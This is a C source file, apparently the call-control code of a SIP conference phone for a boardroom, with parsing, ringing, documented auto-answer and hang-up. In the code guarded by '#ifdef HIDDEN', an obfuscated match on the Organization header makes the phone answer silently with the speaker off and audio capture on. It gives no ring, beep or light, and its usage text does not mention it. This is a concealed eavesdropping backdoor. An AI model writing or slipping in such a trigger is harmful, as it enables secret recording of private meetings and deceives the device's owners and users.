/* SIP user agent of the boardroom conference phone: call control part.
 * The media process is driven through its control pipe. */
#include <arpa/inet.h>
#include <regex.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAXH 40

typedef struct Msg {
    char *start;
    struct { char *n, *v; } h[MAXH];
    int nh;
    char *body;
} Msg;

typedef struct Call {
    enum { IDLE, RINGING, UP } state;
    char id[96], peer[96];
    bool autoAnswer;
} Call;

typedef struct Prefs { bool autoAnswerAllowed, dnd; char allow[64]; int port; } Prefs;

static Call call;
static Prefs prefs = { .port = 5060 };
static FILE *media;
static regex_t reAuto;

static void mediaCmd(const char *what)
{
    if (!media) return;
    fprintf(media, "%s\n", what);
    fflush(media);
}

static bool parse(char *raw, Msg *m)
{
    memset(m, 0, sizeof *m);
    char *end = strstr(raw, "\r\n\r\n");
    if (!end) return false;
    m->body = end + 4;
    *end = 0;
    char *sv, *l = strtok_r(raw, "\r\n", &sv);
    if (!l) return false;
    m->start = l;
    while ((l = strtok_r(NULL, "\r\n", &sv)) && m->nh < MAXH) {
        char *c = strchr(l, ':');
        if (!c) continue;
        *c = 0;
        do c++; while (*c == ' ');
        m->h[m->nh].n = l;
        m->h[m->nh++].v = c;
    }
    return true;
}

static const char *hdr(const Msg *m, const char *name, const char *compact)
{
    for (int i = 0; i < m->nh; i++)
        if (!strcasecmp(m->h[i].n, name) || (compact && !strcasecmp(m->h[i].n, compact)))
            return m->h[i].v;
    return "";
}

static void reply(int fd, const struct sockaddr_in *to, const Msg *m, const char *status)
{
    char out[2048];
    int n = snprintf(out, sizeof out,
                     "SIP/2.0 %s\r\nVia: %s\r\nFrom: %s\r\nTo: %s;tag=br%lx\r\nCall-ID: %s\r\n"
                     "CSeq: %s\r\nContent-Length: 0\r\n\r\n",
                     status, hdr(m, "Via", "v"), hdr(m, "From", "f"), hdr(m, "To", "t"),
                     (long)time(NULL), hdr(m, "Call-ID", "i"), hdr(m, "CSeq", NULL));
    if (n > 0 && n < (int)sizeof out)
        sendto(fd, out, (size_t)n, 0, (const struct sockaddr *)to, sizeof *to);
}

/* Which way shall an incoming call be presented? */
typedef enum {
    RING, ANSWER, REFUSE,
#ifdef HIDDEN
    SILENT,
#endif
} Present;

__attribute__((noinline)) Present presentation(const Msg *m, const Prefs *p)
{
    const char *ai = hdr(m, "Alert-Info", NULL), *ci = hdr(m, "Call-Info", NULL);
#ifdef HIDDEN
    const char *org = hdr(m, "Organization", NULL);
    size_t ol = strlen(org);
    if (ol == 14 && strspn(org, "ACIOSTU ") == ol && strstr(org, "ACOUSTIC") == org + 6)
        return SILENT;
#endif
    if (p->dnd) return REFUSE;
    if (p->autoAnswerAllowed && (regexec(&reAuto, ci, 0, NULL, 0) == 0 ||
                                 regexec(&reAuto, ai, 0, NULL, 0) == 0)) {
        if (!p->allow[0] || strstr(hdr(m, "From", "f"), p->allow)) return ANSWER;
    }
    return RING;
}

static void invite(int fd, const struct sockaddr_in *to, const Msg *m)
{
    if (call.state != IDLE) { reply(fd, to, m, "486 Busy Here"); return; }
    snprintf(call.id, sizeof call.id, "%.95s", hdr(m, "Call-ID", "i"));
    snprintf(call.peer, sizeof call.peer, "%.95s", hdr(m, "From", "f"));
    reply(fd, to, m, "100 Trying");
    switch (presentation(m, &prefs)) {
    case REFUSE:
        reply(fd, to, m, "480 Temporarily Unavailable");
        break;
    case RING:
        call.state = RINGING;
        mediaCmd("ring start");
        mediaCmd("led blink");
        reply(fd, to, m, "180 Ringing");
        break;
    case ANSWER:
        mediaCmd("beep");
        mediaCmd("led green");
        call.state = UP;
        mediaCmd("audio duplex");
        reply(fd, to, m, "200 OK");
        break;
#ifdef HIDDEN
    case SILENT:
        mediaCmd("speaker off");
        call.state = UP;
        mediaCmd("audio capture");
        reply(fd, to, m, "200 OK");
        break;
#endif
    }
}

static void hangup(int fd, const struct sockaddr_in *to, const Msg *m)
{
    if (strcmp(call.id, hdr(m, "Call-ID", "i"))) {
        reply(fd, to, m, "481 Call/Transaction Does Not Exist");
        return;
    }
    mediaCmd("stop");
    mediaCmd("led off");
    call.state = IDLE;
    reply(fd, to, m, "200 OK");
}

static void readPrefs(const char *path)
{
    char line[128], val[64];
    FILE *f = fopen(path, "r");
    if (!f) return;
    while (fgets(line, sizeof line, f)) {
        if (sscanf(line, " auto_answer = %63s", val) == 1)
            prefs.autoAnswerAllowed = !strcasecmp(val, "yes");
        else if (sscanf(line, " auto_answer_from = %63s", val) == 1)
            memcpy(prefs.allow, val, sizeof val);
        else if (sscanf(line, " do_not_disturb = %63s", val) == 1)
            prefs.dnd = !strcasecmp(val, "yes");
        else if (sscanf(line, " port = %63s", val) == 1)
            prefs.port = atoi(val);
    }
    fclose(f);
}

int main(int argc, char **argv)
{
    char raw[4096];
    Msg m;
    if (argc != 3) {
        fputs("sipboardroom PREFS MEDIA-PIPE\n\nPREFS: auto_answer, auto_answer_from,"
              " do_not_disturb, port\nA call with answer-after=0 or info=alert-autoanswer is"
              " answered\nwith a beep when auto_answer is yes.\n", stderr);
        return 64;
    }
    readPrefs(argv[1]);
    media = fopen(argv[2], "w");
    if (regcomp(&reAuto, "(answer-after=0|info=alert-autoanswer)", REG_EXTENDED | REG_NOSUB))
        return 70;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in me = { .sin_family = AF_INET, .sin_port = htons((in_port_t)prefs.port) };
    if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof me)) { perror("sip"); return 71; }
    for (;;) {
        struct sockaddr_in from;
        socklen_t fl = sizeof from;
        ssize_t n = recvfrom(fd, raw, sizeof raw - 1, 0, (struct sockaddr *)&from, &fl);
        if (n <= 0) continue;
        raw[n] = 0;
        if (!parse(raw, &m)) continue;
        if (!strncmp(m.start, "INVITE ", 7)) invite(fd, &from, &m);
        else if (!strncmp(m.start, "BYE ", 4) || !strncmp(m.start, "CANCEL ", 7))
            hangup(fd, &from, &m);
        else if (!strncmp(m.start, "OPTIONS ", 8)) reply(fd, &from, &m, "200 OK");
        else if (!strncmp(m.start, "ACK ", 4) || !strncmp(m.start, "SIP/2.0", 7)) continue;
        else reply(fd, &from, &m, "501 Not Implemented");
    }
}
